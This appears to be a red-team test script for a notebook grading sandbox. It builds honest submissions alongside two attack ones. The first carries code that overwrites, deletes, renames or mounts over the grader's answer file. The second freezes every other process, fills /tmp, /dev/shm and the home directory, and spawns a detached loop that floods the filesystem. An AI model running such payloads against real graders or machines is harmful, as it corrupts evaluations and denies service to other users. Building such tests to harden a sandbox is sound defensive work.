"""Submissions for the S3 review (probe code file, spares, debugpy): lesson 1.
python attacks/s3_build.py OUT_DIR"""
from __future__ import annotations

import sys
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT / "tests" / "grading_corpus"))
import skipping_attacks as sa  # noqa: E402

# overwrite, replace, rename or shadow the grader's code file and its folder; then
# corrupt every copy it can reach: if any write lands, its later calls (or another
# kernel's) load garbage and lose points
TAMPER = r'''
import os, glob, ctypes, helpers, tempfile
_d = os.path.join(os.path.dirname(helpers.__file__), "answers")
_f = os.path.join(_d, "_normcourse_grader.bin")
_tries = []
def _try(name, fn):
    try:
        fn(); _tries.append(name + ":ok")
    except Exception as e:
        _tries.append(name + ":" + type(e).__name__)
_try("write", lambda: open(_f, "wb").write(b"garbage"))
_try("unlink", lambda: os.unlink(_f))
_try("rename_dir", lambda: os.rename(_d, _d + ".x"))
_try("chmod", lambda: os.chmod(_f, 0o666))
_libc = ctypes.CDLL(None, use_errno=True)
_try("umount", lambda: (_ for _ in ()).throw(OSError()) if _libc.umount2(_d.encode(), 2) else None)
_try("mount_tmpfs", lambda: (_ for _ in ()).throw(OSError()) if _libc.mount(b"none", _d.encode(), b"tmpfs", 0, None) else None)
for _g in glob.glob("/tmp/ncgrade-*/standins/_normcourse_grader.bin") + glob.glob("/tmp/**/_normcourse_grader.bin", recursive=True):
    _try("other:" + _g, lambda: open(_g, "wb").write(b"garbage"))
print(_tries)
'''

# things a submission might do to a spare (another submission's next kernel) or the grader
SPARES = r'''
import os, glob, signal, subprocess
seen = sorted(glob.glob("/tmp/*")) + sorted(glob.glob("/dev/shm/*"))
pids = [int(p) for p in os.listdir("/proc") if p.isdigit()]
for p in pids:
    if p != os.getpid():
        try:
            os.kill(p, signal.SIGSTOP)
        except OSError:
            pass
try:  # fill the private /tmp and /dev/shm
    for folder in ("/tmp", "/dev/shm", os.path.expanduser("~")):
        with open(os.path.join(folder, "fill"), "wb") as f:
            for _ in range(4000):
                f.write(b"x" * (1 << 20))
except OSError as e:
    print("fill stopped:", e)
# a detached child that outlives the cell and keeps flooding
subprocess.Popen(["sh", "-c", "while :; do ls -R / >/dev/null 2>&1; done"],
                 start_new_session=True)
print(len(pids), seen[:20])
'''

DEBUGPY = "import debugpy\nprint(debugpy.__version__)"
DEBUGPY_GUARDED = ("try:\n    import debugpy\nexcept ImportError:\n    debugpy = None\n"
                   "print(debugpy)")


def build() -> dict:
    sol = sa._solutions()
    return {
        "honest_a": sa.handout(sol),
        "tamper_codefile": sa.handout(sol, [TAMPER], after=0),
        "spares_attack": sa.handout(sol, [SPARES], after=0),
        "honest_debugpy_import": sa.handout(sol, [DEBUGPY], after=0),
        "honest_debugpy_guarded": sa.handout(sol, [DEBUGPY_GUARDED], after=0),
        "honest_b": sa.handout(sol),
    }


if __name__ == "__main__":
    paths = sa.save(Path(sys.argv[1]), build())  # OUT/NAME/01_feature_scale.ipynb
    print("wrote", len(paths), "to", sys.argv[1])
